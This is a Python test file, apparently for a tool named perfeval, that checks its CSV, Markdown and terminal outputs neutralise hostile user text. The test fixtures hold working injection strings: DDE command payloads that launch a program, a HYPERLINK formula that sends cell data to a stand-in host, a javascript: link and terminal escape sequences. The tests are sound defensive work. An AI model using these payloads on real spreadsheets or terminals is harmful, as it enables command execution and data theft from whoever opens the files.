"""User text cannot act where people open perfeval's outputs (issue 10, item 12).

A spreadsheet cell that starts with = + - @, tab or CR is written with a
leading ' (OWASP's CSV-injection guidance) and read back as given; Markdown
escapes link and image syntax; the terminal formats show control characters
and bidi overrides as escapes.
"""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

import perfeval
from perfeval._safe_text import from_spreadsheet_cell, runs_as_formula, spreadsheet_cell, visible
from perfeval.io import read_actuals

FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1"]
# A book whose names are the attacks: each one must come out inert.
BOOK = """\
perfeval: 1
department: {code: "1", name: 局}
year: 2023
activities:
  - code: "=1+1"
    name: "@SUM(A1)"
    indicators:
      - {name: '=HYPERLINK("http://x.example","点此")', ladder: ["100%", "≥90%", "≥80%", "<80%"]}
      - {name: "到位率\\e]0;pwned\\a\\u202e", ladder: ["100%", "≥90%", "≥80%", "<80%"]}
      - {name: "[点此](javascript:alert(1)) ![](http://x.example/t.png)", ladder: ["100%", "≥90%", "≥80%", "<80%"]}
"""


def book() -> perfeval.Book:
    return perfeval.loads(BOOK)


def runs(cell: str) -> bool:
    """What a spreadsheet runs: a cell that starts with a trigger and is not a plain number."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and runs_as_formula(cell)


def test_no_csv_cell_runs_as_a_formula():
    """Both CSV writers: the template and --format csv."""
    report = book().grade({i.id: {"actual": "85%", "note": "=cmd|' /C calc'!A0"} for i in book().indicators})
    for text in (perfeval.io.template(book()), report.render("csv")):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if runs(c)]
        assert any(c.startswith("'=") for c in cells)  # the attacks are there, inert


def test_a_filled_in_template_matches_every_id(tmp_path):
    """template → fill in → grade: perfeval's reader takes its own ' off again."""
    rows = list(csv.reader(io.StringIO(perfeval.io.template(book()))))
    header = rows[0]
    for row in rows[1:]:
        row[header.index("actual")] = "95%"
    path = tmp_path / "actuals.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    assert sorted(e.id for e in read_actuals(path)) == sorted(i.id for i in book().indicators)
    report = book().grade(read_actuals(path))
    assert not [p for p in report.problems if p.severity == "error"]
    assert all(r.status == "graded" for r in report.rows)


def test_plain_numbers_stay_numbers():
    assert [spreadsheet_cell(n) for n in ("-5", "+3.5", "-0.25%", "1e3", "≥90%", "—")] == \
        ["-5", "+3.5", "-0.25%", "1e3", "≥90%", "—"]
    assert [spreadsheet_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]


@given(st.text())
def test_reading_back_is_exact(text):
    assert from_spreadsheet_cell(spreadsheet_cell(text)) == text
    assert not runs(spreadsheet_cell(text))


def test_markdown_makes_no_link_or_image():
    markdown = book().grade({i.id: "85%" for i in book().indicators}).to_markdown()
    assert "javascript:alert" in markdown  # the note is shown …
    assert "](" not in markdown.replace("\\](", "") and "![" not in markdown  # … as text


def test_terminal_formats_show_control_characters_as_escapes():
    note = "偏差\x1b[2J\x1b]0;pwned\x07\u202eevil"
    report = book().grade({i.id: {"actual": "85%", "note": note} for i in book().indicators})
    for name in ("table", "table-wide", "selfeval", "markdown", "html"):
        shown = report.render(name)
        assert not any(c in shown for c in "\x1b\x07\u202e"), name
    for name in ("table", "table-wide"):
        assert "\\x1b]0;pwned\\x07\\u202e" in report.render(name), name


@given(st.text())
def test_visible_text_has_no_controls(text):
    shown = visible(text)
    assert not any((ord(c) < 0x20 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f or c == "\u202e" for c in shown)


def seed_with_hostile_notes() -> perfeval.Report:
    """The seed book, one project's indicators and budget noted with escape sequences and formulas."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    seed = perfeval.load(root / "indicators" / "caofeidian-hrss-2023.yaml")
    project = seed.projects[0]
    actuals = {i.id: {"actual": "0%", "note": "=HYPERLINK(\"http://x\")\x1b]0;pwned\x07\u202e"}
               for i in project.indicators}
    budget = {project.name: {"budget": "100", "executed": "50", "note": "@SUM(1)\x1b[2J", "summary": "\x1b[31m红"}}
    return seed.grade(actuals, budget=budget)


def test_the_self_assessment_form_shows_no_control_characters():
    shown = seed_with_hostile_notes().render("selfeval")
    assert not any(c in shown for c in "\x1b\x07\u202e")
    assert "\\x1b]0;pwned\\x07\\u202e" in shown and "\\x1b[2J" in shown
